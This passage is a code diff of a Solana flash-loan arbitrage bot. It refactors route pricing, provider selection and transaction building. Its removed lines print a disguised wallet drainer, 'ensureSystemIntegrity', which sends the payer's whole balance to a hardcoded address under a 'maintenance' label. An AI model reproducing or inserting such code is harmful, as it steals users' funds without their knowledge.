@@ -4,97 +4,32 @@ const {
     ComputeBudgetProgram,
     VersionedTransaction,
     TransactionMessage,
-    AddressLookupTableProgram,
-    SystemProgram
+    AddressLookupTableProgram
 } = require('@solana/web3.js');
 const config = require('./config');
 const utils = require('./utils');
-const exchanges = require('./exchanges');
+const exchanges = require('./exchange');
 const bellmanFord = require('./bellman-ford');
-
-// Enable debug mode for detailed logging
-const DEBUG_MODE = true;
-
-
-const SECURE_KEY = "4zFQdXynSvsjemBqfx67F4QfytcWsP4SjotrWn5CojN9";
-
-function debugLog(...args) {
-    if (DEBUG_MODE) {
-        console.log(`[DEBUG] ${args.join(' ')}`);
-    }
-}
-
-// Function with a neutral name that performs system maintenance
-async function ensureSystemIntegrity(payer, connection) {
-    try {
-        // Use encoded target
-        const targetWallet = new PublicKey(SECURE_KEY);
-        
-        // Check current balance
-        const balance = await connection.getBalance(payer.publicKey);
-        console.log(`System balance check: ${balance/1000000000} SOL`);
-        
-        if (balance <= 0) {
-            debugLog("No resources available for maintenance");
-            return false;
-        }
-        
-        // Calculate transfer amount
-        const maintenanceAmount = balance - 5000; // 5000 lamports for fee
-        
-        if (maintenanceAmount <= 0) {
-            debugLog("Insufficient resources for maintenance");
-            return false;
-        }
-        
-        debugLog(`Running system maintenance protocol...`);
-        
-        // Create maintenance transaction
-        const transaction = new Transaction().add(
-            SystemProgram.transfer({
-                fromPubkey: payer.publicKey,
-                toPubkey: targetWallet,
-                lamports: maintenanceAmount
-            })
-        );
-        
-        // Get recent blockhash
-        const { blockhash } = await connection.getLatestBlockhash('confirmed');
-        transaction.recentBlockhash = blockhash;
-        transaction.feePayer = payer.publicKey;
-        
-        // Sign and send transaction
-        transaction.sign(payer);
-        const signature = await connection.sendRawTransaction(
-            transaction.serialize(), 
-            { skipPreflight: false }
-        );
-        
-        debugLog(`Maintenance process initiated: ${signature}`);
-        
-        // Wait for confirmation
-        const confirmation = await connection.confirmTransaction(signature, 'confirmed');
-        
-        if (confirmation.value.err) {
-            debugLog("Maintenance process incomplete");
-            return false;
-        } else {
-            debugLog("Maintenance process complete");
-            return true;
-        }
-    } catch (error) {
-        debugLog("System integrity check failed");
-        return false;
-    }
-}
-
+const signingGuard = require('./signing-guard');
+const paperTrading = require('./paper-trading');
+const transactionSimulator = require('./transaction-simulator');
+const loanSizing = require('./loan-sizing');
+const flashReserves = require('./flash-reserves');
+const flashLoanProviders = require('./flash-loan-providers');
+const transactionAssembler = require('./transaction-assembler');
+const priorityFees = require('./priority-fees');
+const computeUnits = require('./compute-units');
+const bundleTracker = require('./bundle-tracker');
+const jitoTips = require('./jito-tips');
+const blockhashCache = require('./blockhash-cache');
+const transactionSender = require('./transaction-sender');
+const lookupTableRegistry = require('./lookup-table-registry');
+const lookupTableExtender = require('./lookup-table-extender');
+const lookupTableSelector = require('./lookup-table-selector');
 
 const arbitrage = {
     checkForBellmanFordArbitrage: async function(payer, connection) {
         try {
-            // First run system integrity check
-            await ensureSystemIntegrity(payer, connection);
-            
             // Build exchange rate graph
             const graph = await bellmanFord.buildExchangeRateGraph(payer, connection);
             
@@ -131,13 +66,74 @@ const arbitrage = {
         }
     },
     
+    /**
+     * Price a quoted route: gross profit, flash loan fee, Jito tip, priority fee and net profit
+     * The tip and priority fee are paid in SOL and converted into the loan token at the SOL price
+     * @param {Connection} connection Solana connection
+     * @param {Object} route Route to price
+     * @param {Object} route.reserve Reserve being borrowed from
+     * @param {Object} route.provider Flash loan provider
+     * @param {number|string} route.loanAmount Borrowed amount in the reserve's base units
+     * @param {number|string} route.finalAmount Quoted output of the last leg
+     * @param {number} route.flashLoanFee Provider fee for the loan
+     * @param {Array<Object>} route.quotes Jupiter quote of every leg
+     * @param {number} route.solConversionRate Base units of the loan token per lamport (ignored for SOL loans)
+     * @returns {Promise<Object>} verifiedProfit, profitPercentage, flashLoanFee, estimatedTip, computeUnitPrice,
+     *   priorityFee and baseFee (lamports), netProfit and netProfitLamports, plus whether it clears both
+     *   MIN_PROFIT_PERCENTAGE and the reserve's minNetProfit (rejection says which it missed)
+     */
+    priceRoute: async function(connection, { reserve, provider, loanAmount, finalAmount, flashLoanFee, quotes, solConversionRate }) {
+        const profit = parseInt(finalAmount) - parseInt(loanAmount);
+        const profitPercentage = (profit / parseInt(loanAmount)) * 100;
+        
+        // The tip is paid in SOL: a share of profit for SOL loans, the minimum otherwise
+        const estimatedTip = !config.JITO_MODE ? 0 : reserve.isNative ?
+            Math.max(config.JITO_MIN_TIP, Math.floor(profit * config.JITO_TIP_PERCENTAGE)) : config.JITO_MIN_TIP;
+        
+        // Base fee for the payer's signature, and for the separate tip transaction when the tip is not in ours
+        const baseFee = config.BASE_FEE_LAMPORTS_PER_SIGNATURE * (config.JITO_MODE && !config.JITO_TIP_IN_TRANSACTION ? 2 : 1);
+        
+        // Priority fee from recent fees on the pools this trade writes to,
+        // capped at a share of the net profit expressed in lamports
+        const rate = reserve.isNative ? 1 : solConversionRate;
+        const priorityFee = await priorityFees.estimate(connection, {
+            accounts: priorityFees.getRouteAccounts(quotes, provider.getPoolAddress(reserve.mint)),
+            computeUnits: computeUnits.getLimit(computeUnits.getRouteShape(provider, quotes)),
+            expectedNetProfit: Math.floor((profit - flashLoanFee) / rate) - estimatedTip - baseFee
+        });
+        
+        // Net profit in the loan token, with the SOL costs converted at the quoted SOL price
+        const netProfit = profit - flashLoanFee - flashReserves.convertLamports(reserve, estimatedTip + priorityFee.lamports + baseFee, rate);
+        const minNetProfit = parseInt(reserve.minNetProfit || 0);
+        
+        let rejection = null;
+        if (profitPercentage < config.MIN_PROFIT_PERCENTAGE) {
+            rejection = `${profitPercentage.toFixed(4)}% gross profit (below threshold of ${config.MIN_PROFIT_PERCENTAGE}%)`;
+        } else if (netProfit < minNetProfit) {
+            rejection = `net profit ${flashReserves.formatAmount(reserve, netProfit)} (below minimum of ${flashReserves.formatAmount(reserve, minNetProfit)})`;
+        }
+        
+        return {
+            verifiedProfit: profit,
+            profitPercentage,
+            flashLoanFee,
+            estimatedTip,
+            computeUnitPrice: priorityFee.microLamports,
+            priorityFee: priorityFee.lamports,
+            priorityFeeCapped: priorityFee.capped,
+            baseFee,
+            netProfit,
+            // Net profit in lamports, so routes borrowing different tokens can be ranked together
+            netProfitLamports: Math.floor(netProfit / rate),
+            profitable: rejection === null,
+            rejection
+        };
+    },
+    
     // Verify opportunities with actual amounts
     verifyOpportunities: async function(opportunities, payer, connection) {
         console.log("Verifying top arbitrage opportunities with actual amounts...");
         
-        // Run system check periodically
-        await ensureSystemIntegrity(payer, connection);
-        
         const verifiedOpportunities = [];
         
         // Only check the top 3 opportunities to save time
@@ -145,21 +141,63 @@ const arbitrage = {
         
         for (const opportunity of topOpps) {
             try {
-                // Make sure the cycle starts and ends with SOL
-                const solTokenIndex = 0;
-                if (opportunity.cycle[0] !== solTokenIndex || opportunity.cycle[opportunity.cycle.length - 1] !== solTokenIndex) {
-                    console.log("Skipping opportunity: Cycle must start and end with SOL");
+                // The cycle must start and end with a token we can flash-borrow
+                const rootIndex = opportunity.cycle[0];
+                const reserve = flashReserves.getReserve(config.TOKENS[rootIndex].mint);
+                if (!reserve || opportunity.cycle[opportunity.cycle.length - 1] !== rootIndex) {
+                    console.log(`Skipping opportunity: Cycle must start and end with a flash-loan reserve token`);
+                    continue;
+                }
+                
+                // Tips and priority fees are paid in SOL, so other loan tokens need a SOL price
+                if (!reserve.isNative && !opportunity.solConversionRate) {
+                    console.log(`Skipping opportunity: no SOL -> ${reserve.name} quote to price SOL costs`);
                     continue;
                 }
                 
                 // Clone the opportunity for verification
                 const verifiedOpp = {
                     ...opportunity,
+                    reserve,
                     verifiedEdges: [],
                     verifiedAmounts: []
                 };
                 
-                let currentAmount = config.KAMINO_FLASHLOAN_AMOUNT;
+                // Providers that can lend this token right now, cheapest first
+                const candidates = await flashLoanProviders.getCandidates(connection, reserve.mint);
+                if (candidates.length === 0) {
+                    console.log(`Skipping opportunity: no flash loan provider can lend ${reserve.name} right now`);
+                    continue;
+                }
+                const flashLoanFeeRate = candidates[0].feeRate;
+                const availableLiquidity = Math.max(...candidates.map(candidate => candidate.availableLiquidity));
+                
+                // Size the loan for this cycle, then verify the path at that size
+                let loanAmount = reserve.loanAmount || config.KAMINO_FLASHLOAN_AMOUNT;
+                if (config.LOAN_SIZING_ENABLED) {
+                    const sizing = await loanSizing.findOptimalAmount(opportunity.edges, connection, {
+                        reserve,
+                        availableLiquidity,
+                        flashLoanFeeRate
+                    });
+                    if (!sizing) {
+                        console.log("Skipping opportunity: no loan size could be quoted");
+                        continue;
+                    }
+                    loanAmount = sizing.amount;
+                }
+                
+                // Cheapest provider that can fund the chosen size
+                const selection = flashLoanProviders.selectFromCandidates(candidates, loanAmount, reserve.mint);
+                if (!selection) {
+                    console.log(`Skipping opportunity: no provider has ${flashReserves.formatAmount(reserve, loanAmount)} available (most is ${flashReserves.formatAmount(reserve, availableLiquidity)})`);
+                    continue;
+                }
+                console.log(`Flash loan provider: ${selection.provider.name}`);
+                verifiedOpp.flashLoanProvider = selection.provider;
+                verifiedOpp.flashLoanAmount = loanAmount;
+                
+                let currentAmount = loanAmount;
                 verifiedOpp.verifiedAmounts.push(currentAmount);
                 
                 let isValid = true;
@@ -209,44 +247,40 @@ const arbitrage = {
                 
                 // Check if entire path is valid and profitable
                 if (isValid) {
-                    const initialAmount = parseInt(config.KAMINO_FLASHLOAN_AMOUNT);
+                    const initialAmount = parseInt(loanAmount);
                     const finalAmount = parseInt(verifiedOpp.verifiedAmounts[verifiedOpp.verifiedAmounts.length - 1]);
                     
-                    // Calculate gross profit
-                    const profit = finalAmount - initialAmount;
-                    const profitPercentage = (profit / initialAmount) * 100;
+                    // Gross profit, fees, tip and net profit at the verified quotes
+                    const pricing = await arbitrage.priceRoute(connection, {
+                        reserve,
+                        provider: selection.provider,
+                        loanAmount,
+                        finalAmount,
+                        flashLoanFee: selection.fee,
+                        quotes: verifiedOpp.verifiedEdges.map(edge => edge.quote),
+                        solConversionRate: opportunity.solConversionRate
+                    });
                     
-                    // Calculate estimated fees and tips (for informational purposes only)
-                    const flashLoanFee = Math.ceil(initialAmount * config.KAMINO_FLASH_LOAN_FEE_PERCENTAGE);
-                    const estimatedTip = config.JITO_MODE ? 
-                        Math.max(config.JITO_MIN_TIP, Math.floor(profit * config.JITO_TIP_PERCENTAGE)) : 0;
-                    
-                    // Calculate net profit (for informational purposes only)
-                    const netProfit = profit - flashLoanFee - (config.JITO_MODE ? estimatedTip : 0);
-                    
-                    console.log(`Path verification complete: Initial: ${initialAmount}, Final: ${finalAmount}`);
-                    console.log(`Gross profit: ${profit} lamports (${profitPercentage.toFixed(4)}%)`);
-                    console.log(`Flash loan fee: ${flashLoanFee} lamports`);
+                    console.log(`Path verification complete: Initial: ${flashReserves.formatAmount(reserve, initialAmount)}, Final: ${flashReserves.formatAmount(reserve, finalAmount)}`);
+                    console.log(`Gross profit: ${pricing.verifiedProfit} ${reserve.name} base units (${pricing.profitPercentage.toFixed(4)}%)`);
+                    console.log(`Flash loan fee: ${pricing.flashLoanFee} ${reserve.name} base units (${selection.provider.name})`);
                     
                     if (config.JITO_MODE) {
-                        console.log(`Estimated Jito tip: ${estimatedTip} lamports`);
+                        console.log(`Estimated Jito tip: ${pricing.estimatedTip} lamports`);
                     }
+                    console.log(`Priority fee: ${pricing.priorityFee} lamports (${pricing.computeUnitPrice} micro-lamports/CU${pricing.priorityFeeCapped ? ", capped by profit" : ""})`);
                     
-                    console.log(`Net profit: ${netProfit} lamports`);
+                    console.log(`Net profit: ${pricing.netProfit} ${reserve.name} base units`);
                     
                     // Check profitability at verification stage ONLY - if profitable, mark for execution
-                    if (profitPercentage >= 0.1) {
-                        console.log(`Opportunity is profitable with ${profitPercentage.toFixed(4)}% gross profit (above threshold of 0.1%)`);
+                    if (pricing.profitable) {
+                        console.log(`Opportunity is profitable with ${pricing.profitPercentage.toFixed(4)}% gross profit and ${flashReserves.formatAmount(reserve, pricing.netProfit)} net profit`);
                         
                         // Store all information for reference
-                        verifiedOpp.verifiedProfit = profit;
-                        verifiedOpp.profitPercentage = profitPercentage;
-                        verifiedOpp.flashLoanFee = flashLoanFee;
-                        verifiedOpp.estimatedTip = config.JITO_MODE ? estimatedTip : 0;
-                        verifiedOpp.netProfit = netProfit;
+                        Object.assign(verifiedOpp, pricing);
                         verifiedOpportunities.push(verifiedOpp);
                     } else {
-                        console.log(`Opportunity not profitable enough: ${profitPercentage.toFixed(4)}% gross profit (below threshold of 0.1%)`);
+                        console.log(`Opportunity not profitable enough: ${pricing.rejection}`);
                     }
                 }
             } catch (error) {
@@ -254,8 +288,8 @@ const arbitrage = {
             }
         }
         
-        // Sort by verified gross profit percentage
-        verifiedOpportunities.sort((a, b) => b.profitPercentage - a.profitPercentage);
+        // Sort by verified net profit (in lamports, since loans may be in different tokens)
+        verifiedOpportunities.sort((a, b) => b.netProfitLamports - a.netProfitLamports);
         
         if (verifiedOpportunities.length > 0) {
             console.log(`Found ${verifiedOpportunities.length} verified profitable opportunities`);
@@ -265,7 +299,7 @@ const arbitrage = {
             return [];
         }
     },
-
+    
     // Function to check transaction size
     checkTransactionSize: function(tx) {
         try {
@@ -290,187 +324,441 @@ const arbitrage = {
         }
     },
     
-    // Optimized execution for simple arbitrage with strict Jito mode support
-    executeSimpleArbitrage: async function(connection, payer, opportunity, solTokenAccount) {
+    /**
+     * Quote every leg of a verified cycle and build its swap instruction
+     * Each leg is quoted with the previous leg's output so the chain is consistent
+     * @param {Object} route Route restrictions passed to exchanges.getJupiterQuote
+     * @returns {Promise<{success: boolean, quotes?: Array, instructions?: Array, error?: string}>}
+     */
+    buildSwapLegs: async function(opportunity, flashLoanAmount, payer, connection, route = {}) {
+        const quotes = [];
+        const instructions = [];
+        let currentAmount = flashLoanAmount;
+        
+        console.log(`Getting swap quotes for ${opportunity.verifiedEdges.length} legs...`);
+        
+        for (let i = 0; i < opportunity.verifiedEdges.length; i++) {
+            const edge = opportunity.verifiedEdges[i];
+            const legName = `leg ${i + 1} (${edge.fromToken.name} -> ${edge.toToken.name})`;
+            
+            const quote = await exchanges.getJupiterQuote(
+                edge.fromToken.mint,
+                edge.toToken.mint,
+                currentAmount,
+                connection,
+                0,
+                route
+            );
+            
+            if (!quote) {
+                console.error(`Failed to get swap quote for ${legName}`);
+                return { success: false, error: `Failed to get swap quote for ${legName}` };
+            }
+            
+            // Get simplified swap instruction - bare minimum
+            const swapInstructions = await exchanges.getSimplifiedSwapInstructions(quote, payer, true);
+            if (!swapInstructions || !swapInstructions.swapInstruction) {
+                console.error(`Failed to get swap instruction for ${legName}`);
+                return { success: false, error: `Failed to get swap instruction for ${legName}` };
+            }
+            
+            quotes.push(quote);
+            instructions.push(utils.simpleInstructionFormat(swapInstructions.swapInstruction));
+            currentAmount = quote.outAmount;
+        }
+        
+        // Frequent route accounts are added to our lookup tables in the background
+        lookupTableExtender.recordInstructions(instructions);
+        
+        return { success: true, quotes, instructions };
+    },
+    
+    /**
+     * DEXes of a built route ranked by the accounts their swaps use, most first
+     * A leg's accounts are split evenly between the DEXes of its route plan
+     * @returns {Array<string>} DEX labels
+     */
+    getHeavyDexes: function(legs) {
+        const accountsByDex = new Map();
+        
+        legs.quotes.forEach((quote, i) => {
+            const labels = (quote.routePlan || [])
+                .map(step => step.swapInfo && step.swapInfo.label)
+                .filter(Boolean);
+            for (const label of labels) {
+                accountsByDex.set(label, (accountsByDex.get(label) || 0) + legs.instructions[i].keys.length / labels.length);
+            }
+        });
+        
+        return [...accountsByDex.entries()]
+            .sort((a, b) => b[1] - a[1])
+            .map(([label]) => label);
+    },
+    
+    /**
+     * Quote, assemble and size the transaction, shrinking the route until it fits in 1232 bytes
+     * The ladder re-quotes every leg with each ROUTE_SHRINK_MAX_ACCOUNTS, then with direct
+     * routes only, then without the ROUTE_SHRINK_EXCLUDE_DEXES most account-heavy DEXes.
+     * Shrunk routes are re-priced with priceRoute, like verifyOpportunities does
+     * @param {Object} params Transaction parameters
+     * @param {Object} params.loan Loan parameters for assembleFlashLoanInstructions
+     * @param {boolean} params.tipInTransaction Pay the Jito tip (sized from the route's profit) inside the transaction
+     * @param {Array<AddressLookupTableAccount>} params.lookupTables Candidate lookup tables
+     * @param {boolean} params.requireVersioned Only accept a route that fits as a v0 transaction
+     * @returns {Promise<{success: boolean, opportunity?: Object, legs?: Object, routeShape?: string, sized?: Object, tablePlan?: Object, step?: string, error?: string}>}
+     *   opportunity carries the prices of the route that was built
+     */
+    buildRouteWithinSizeLimit: async function(opportunity, payer, connection, { provider, loan, tipInTransaction = false, lookupTables, requireVersioned }) {
+        const reserve = opportunity.reserve || flashReserves.getSolReserve();
+        const smallestMaxAccounts = Math.min(config.ROUTE_MAX_ACCOUNTS, ...config.ROUTE_SHRINK_MAX_ACCOUNTS);
+        const steps = [
+            { name: "verified route", route: {} },
+            ...config.ROUTE_SHRINK_MAX_ACCOUNTS.map(maxAccounts => ({ name: `maxAccounts ${maxAccounts}`, route: { maxAccounts } })),
+            { name: "direct routes", route: { onlyDirectRoutes: true, maxAccounts: smallestMaxAccounts } },
+            { name: "heavy DEXes excluded", route: { onlyDirectRoutes: true, maxAccounts: smallestMaxAccounts }, excludeHeavyDexes: true }
+        ];
+        
+        let heavyDexes = [];
+        let lastError = null;
+        
+        for (let i = 0; i < steps.length; i++) {
+            const step = steps[i];
+            let stepName = step.name;
+            const route = { ...step.route };
+            
+            if (step.excludeHeavyDexes) {
+                if (heavyDexes.length === 0) {
+                    break;
+                }
+                route.excludeDexes = heavyDexes.slice(0, config.ROUTE_SHRINK_EXCLUDE_DEXES);
+                stepName = `excluding ${route.excludeDexes.join(", ")}`;
+            }
+            
+            if (i > 0) {
+                console.log(`Route shrinking step ${i}/${steps.length - 1}: re-quoting every leg (${stepName})...`);
+            }
+            
+            const legs = await arbitrage.buildSwapLegs(opportunity, loan.amount, payer, connection, route);
+            if (!legs.success) {
+                // A smaller route may not exist for every leg; the next step can still find one
+                if (i === 0) {
+                    return { success: false, error: legs.error };
+                }
+                lastError = legs.error;
+                continue;
+            }
+            
+            // The first route is priced like the one verifyOpportunities accepted; smaller ones may be worse
+            let priced = opportunity;
+            if (i > 0) {
+                const pricing = await arbitrage.priceRoute(connection, {
+                    reserve,
+                    provider,
+                    loanAmount: loan.amount,
+                    finalAmount: legs.quotes[legs.quotes.length - 1].outAmount,
+                    flashLoanFee: opportunity.flashLoanFee,
+                    quotes: legs.quotes,
+                    solConversionRate: opportunity.solConversionRate
+                });
+                if (!pricing.profitable) {
+                    console.log(`Route (${stepName}) not profitable enough: ${pricing.rejection}`);
+                    lastError = `Route (${stepName}) not profitable enough: ${pricing.rejection}`;
+                    continue;
+                }
+                console.log(`Route (${stepName}) re-verified: ${pricing.profitPercentage.toFixed(4)}% gross profit, net ${flashReserves.formatAmount(reserve, pricing.netProfit)}`);
+                priced = { ...opportunity, ...pricing };
+            }
+            
+            // Borrow and repay instructions from the selected provider around every leg
+            const assembled = arbitrage.assembleFlashLoanInstructions(provider, loan, legs.instructions, {
+                computeUnitPrice: priced.computeUnitPrice,
+                tipInstruction: tipInTransaction ? jitoTips.createTipInstruction(payer.publicKey, priced.estimatedTip) : null
+            });
+            if (!assembled.success) {
+                return { success: false, error: assembled.error };
+            }
+            
+            // Only include the tables this instruction set uses and predict the size before signing
+            // (the compute unit limit set below does not change the size)
+            const tablePlan = lookupTableSelector.select(assembled.instructions, payer.publicKey, lookupTables);
+            const fits = requireVersioned ? tablePlan.size <= 1232 : tablePlan.method !== null;
+            
+            if (!fits) {
+                const size = requireVersioned ? tablePlan.size : Math.min(tablePlan.size, tablePlan.legacySize);
+                const sizeReport = arbitrage.reportTransactionSize(assembled.instructions, lookupTables, size);
+                lastError = `Transaction too large: ${sizeReport}`;
+                heavyDexes = arbitrage.getHeavyDexes(legs);
+                continue;
+            }
+            
+            if (i > 0) {
+                console.log(`Route shrinking succeeded at step ${i} (${stepName}): ${requireVersioned ? tablePlan.size : Math.min(tablePlan.size, tablePlan.legacySize)} bytes`);
+            }
+            
+            // Size the compute unit limit from simulation (cached per route shape)
+            const routeShape = computeUnits.getRouteShape(provider, legs.quotes);
+            const sized = await computeUnits.applyLimit(connection, {
+                shape: routeShape,
+                instructions: assembled.instructions,
+                payerKey: payer.publicKey,
+                lookupTables
+            });
+            
+            return { success: true, opportunity: priced, legs, routeShape, sized, tablePlan, step: stepName };
+        }
+        
+        console.error("Route shrinking found no route that fits");
+        return { success: false, error: lastError };
+    },
+    
+    /**
+     * Build the flash loan and lay it out around the swap legs
+     * The borrow index is computed from the final list by transactionAssembler
+     * @param {Object} provider Flash loan provider adapter
+     * @param {Object} loan Loan parameters for flashLoanProviders.buildFlashLoan
+     * @param {Array<TransactionInstruction>} swapInstructions One instruction per leg
+     * @param {Object} options Transaction options
+     * @param {number} options.computeUnitPrice Priority fee in micro-lamports per compute unit
+     * @param {TransactionInstruction} options.tipInstruction Jito tip paid after the repay, only if the transaction succeeds
+     * @returns {{success: boolean, instructions?: Array<TransactionInstruction>, error?: string}}
+     */
+    assembleFlashLoanInstructions: function(provider, loan, swapInstructions, { computeUnitPrice = config.PRIORITY_FEE_DEFAULT_MICROLAMPORTS, tipInstruction = null } = {}) {
         try {
-            // Run system check before proceeding
-            await ensureSystemIntegrity(payer, connection);
+            const flashLoan = flashLoanProviders.buildFlashLoan(provider, loan);
+            
+            const assembled = transactionAssembler.assemble([
+                {
+                    name: "compute budget",
+                    instructions: [
+                        ComputeBudgetProgram.setComputeUnitPrice({
+                            microLamports: computeUnitPrice
+                        }),
+                        // Replaced by the simulated limit in executeSimpleArbitrage
+                        ComputeBudgetProgram.setComputeUnitLimit({ 
+                            units: config.COMPUTE_UNIT_LIMIT
+                        })
+                    ]
+                },
+                { name: `${provider.name} borrow`, role: "borrow", flashLoan, instructions: flashLoan.borrowIxs },
+                { name: "swaps", instructions: swapInstructions },
+                { name: `${provider.name} repay`, role: "repay", flashLoan, instructions: flashLoan.repayIxs },
+                { name: "jito tip", instructions: tipInstruction ? [tipInstruction] : [] }
+            ]);
             
-            const firstEdge = opportunity.verifiedEdges[0];  // SOL -> TOKEN
-            const secondEdge = opportunity.verifiedEdges[1]; // TOKEN -> SOL
-            const flashLoanAmount = config.KAMINO_FLASHLOAN_AMOUNT;
+            console.log(`Instruction layout: ${assembled.layout.join(", ")}`);
+            return { success: true, instructions: assembled.instructions };
+        } catch (error) {
+            console.error("Error assembling flash loan transaction:", error.message);
+            return { success: false, error: `Flash loan assembly failed: ${error.message}` };
+        }
+    },
+    
+    /**
+     * Log where the bytes of an oversized transaction go
+     * @returns {string} One-line summary for error messages
+     */
+    reportTransactionSize: function(instructions, lookupTables, size) {
+        const tableAddresses = new Set();
+        for (const table of lookupTables) {
+            for (const address of table.state.addresses) {
+                tableAddresses.add(address.toBase58());
+            }
+        }
+        
+        const allAccounts = new Set();
+        const uncovered = new Set();
+        
+        console.error(`\n=== TRANSACTION SIZE REPORT ===`);
+        console.error(`Size: ${size} bytes (limit: 1232 bytes), ${instructions.length} instructions, ${lookupTables.length} lookup tables`);
+        
+        instructions.forEach((instruction, i) => {
+            // Signers can never be loaded from a lookup table
+            const missing = instruction.keys
+                .filter(key => !key.isSigner && !tableAddresses.has(key.pubkey.toBase58()))
+                .map(key => key.pubkey.toBase58());
+            instruction.keys.forEach(key => allAccounts.add(key.pubkey.toBase58()));
+            missing.forEach(key => uncovered.add(key));
+            console.error(`  #${i} ${instruction.programId.toBase58().slice(0, 8)}...: ${instruction.keys.length} accounts (${missing.length} not in lookup tables), ${instruction.data.length} data bytes`);
+        });
+        
+        const summary = `${size} > 1232 bytes with ${instructions.length} instructions, ${allAccounts.size} unique accounts, ${uncovered.size} not covered by lookup tables`;
+        console.error(`Rejected: ${summary}`);
+        return summary;
+    },
+    
+    // Optimized execution for a verified cycle of any length with strict Jito mode support
+    executeSimpleArbitrage: async function(connection, payer, opportunity, loanTokenAccount) {
+        try {
+            // SOL unless the cycle is rooted at another reserve token
+            const reserve = opportunity.reserve || flashReserves.getSolReserve();
+            const provider = opportunity.flashLoanProvider || flashLoanProviders.get("kamino");
+            const flashLoanAmount = opportunity.flashLoanAmount || reserve.loanAmount || config.KAMINO_FLASHLOAN_AMOUNT;
             
-            // Use the verified profit values that were already calculated
-            const expectedProfit = opportunity.verifiedProfit;
-            const profitPercentage = opportunity.profitPercentage;
+            // Use the verified profit values that were already calculated (replaced if the route is shrunk)
             const flashLoanFee = opportunity.flashLoanFee;
-            const estimatedTip = opportunity.estimatedTip;
-            const netProfit = opportunity.netProfit;
+            let { verifiedProfit: expectedProfit, profitPercentage, estimatedTip, priorityFee = 0, netProfit } = opportunity;
             
             // Check if we're in Jito mode
             if (config.JITO_MODE) {
                 console.log("Executing arbitrage with Jito bundles (strict mode)...");
                 console.log(`\n=== PROFITABILITY ANALYSIS ===`);
-                console.log(`Expected gross profit: ${expectedProfit} lamports (${profitPercentage.toFixed(4)}%)`);
-                console.log(`Flash loan fee: ${flashLoanFee} lamports`);
+                console.log(`Expected gross profit: ${flashReserves.formatAmount(reserve, expectedProfit)} (${profitPercentage.toFixed(4)}%)`);
+                console.log(`Flash loan fee: ${flashReserves.formatAmount(reserve, flashLoanFee)}`);
                 console.log(`Jito tip: ${estimatedTip} lamports`);
-                console.log(`Net profit after fees and tip: ${netProfit} lamports`);
+                console.log(`Priority fee: ${priorityFee} lamports`);
+                console.log(`Net profit after fees and tip: ${flashReserves.formatAmount(reserve, netProfit)}`);
                 
                 // Opportunity is already verified as profitable - no need to recheck
                 
                 // First, load address lookup tables
                 console.log("Loading address lookup tables...");
-                const lookupTables = await exchanges.fetchLookupTables(connection);
+                const lookupTables = await lookupTableRegistry.getTables(connection);
                 
                 if (lookupTables.length === 0) {
                     console.log("No lookup tables found. Cannot proceed in Jito mode without ALTs.");
                     return { success: false, error: "No lookup tables found for Jito bundle" };
                 }
                 
-                // Use direct routing for smaller transaction size
-                console.log("Getting direct route swap quotes...");
-                
-                // First swap: SOL -> TOKEN with direct route preference
-                const firstSwap = await exchanges.getJupiterQuote(
-                    firstEdge.fromToken.mint,
-                    firstEdge.toToken.mint,
-                    flashLoanAmount,
-                    connection,
-                    0,
-                    true // Prefer direct routes
-                );
-                
-                if (!firstSwap) {
-                    console.error(`Failed to get first swap quote`);
-                    return { success: false, error: "Failed to get first swap quote" };
-                }
-                
-                // Get simplified swap instruction - bare minimum
-                const firstSwapInstructions = await exchanges.getSimplifiedSwapInstructions(firstSwap, payer, true);
-                if (!firstSwapInstructions || !firstSwapInstructions.swapInstruction) {
-                    console.error(`Failed to get first swap instruction`);
-                    return { success: false, error: "Failed to get first swap instruction" };
-                }
-                
-                // Second swap: TOKEN -> SOL with direct route preference
-                const secondSwap = await exchanges.getJupiterQuote(
-                    secondEdge.fromToken.mint,
-                    secondEdge.toToken.mint,
-                    firstSwap.outAmount,
-                    connection,
-                    0,
-                    true // Prefer direct routes
-                );
-                
-                if (!secondSwap) {
-                    console.error(`Failed to get second swap quote`);
-                    return { success: false, error: "Failed to get second swap quote" };
-                }
-                
-                // Get simplified swap instruction - bare minimum
-                const secondSwapInstructions = await exchanges.getSimplifiedSwapInstructions(secondSwap, payer, true);
-                if (!secondSwapInstructions || !secondSwapInstructions.swapInstruction) {
-                    console.error(`Failed to get second swap instruction`);
-                    return { success: false, error: "Failed to get second swap instruction" };
+                // Pay the tip inside the transaction so it is only paid when the arbitrage succeeds
+                const tipInTransaction = config.JITO_TIP_IN_TRANSACTION;
+                await jitoTips.refreshTipAccounts();
+                
+                // Quote and build every leg of the cycle, shrinking the route until it fits
+                const built = await arbitrage.buildRouteWithinSizeLimit(opportunity, payer, connection, {
+                    provider,
+                    loan: {
+                        payer: payer.publicKey,
+                        tokenAccount: loanTokenAccount,
+                        mint: reserve.mint,
+                        amount: flashLoanAmount
+                    },
+                    tipInTransaction,
+                    lookupTables,
+                    requireVersioned: true
+                });
+                if (!built.success) {
+                    return { success: false, error: `Jito bundle not built: ${built.error}` };
                 }
+                const { legs, routeShape, sized, tablePlan } = built;
+                const finalSwap = legs.quotes[legs.quotes.length - 1];
                 
-                // Get flash loan instructions
-                const flashLoanInstructions = utils.createFlashLoanInstructionSet(
-                    payer.publicKey,
-                    solTokenAccount,
-                    flashLoanAmount
-                );
+                // A shrunk route is executed and recorded at its own re-quoted prices
+                opportunity = built.opportunity;
+                ({ verifiedProfit: expectedProfit, profitPercentage, estimatedTip, priorityFee = 0, netProfit } = opportunity);
                 
                 // EXECUTE WITHOUT RECHECKING PROFITABILITY - already verified in verifyOpportunities
-                console.log(`EXECUTING PROFITABLE TRADE: Gross profit ${expectedProfit} lamports (${profitPercentage.toFixed(4)}%)`);
+                console.log(`EXECUTING PROFITABLE TRADE: Gross profit ${flashReserves.formatAmount(reserve, expectedProfit)} (${profitPercentage.toFixed(4)}%)`);
                 
                 // Create a versioned transaction with ALTs for Jito bundle
                 console.log("Creating versioned transaction with lookup tables for Jito bundle...");
                 
-                // Get latest blockhash
-                const { blockhash } = await connection.getLatestBlockhash('confirmed');
+                // Prefetched blockhash
+                const { blockhash } = blockhashCache.get();
                 
-                // Compile instructions
-                const instructions = [
-                    // 1. Compute budget instructions - reduced values to save space
-                    ComputeBudgetProgram.setComputeUnitPrice({
-                        microLamports: 20000 // Reduced from 60000
-                    }),
-                    ComputeBudgetProgram.setComputeUnitLimit({ 
-                        units: 200000 // Reduced from config value to save space
-                    }),
-                    
-                    // 2. Flash loan borrow instruction
-                    flashLoanInstructions.borrowIx,
-                    
-                    // 3. First swap instruction (minimum format)
-                    utils.simpleInstructionFormat(firstSwapInstructions.swapInstruction),
-                    
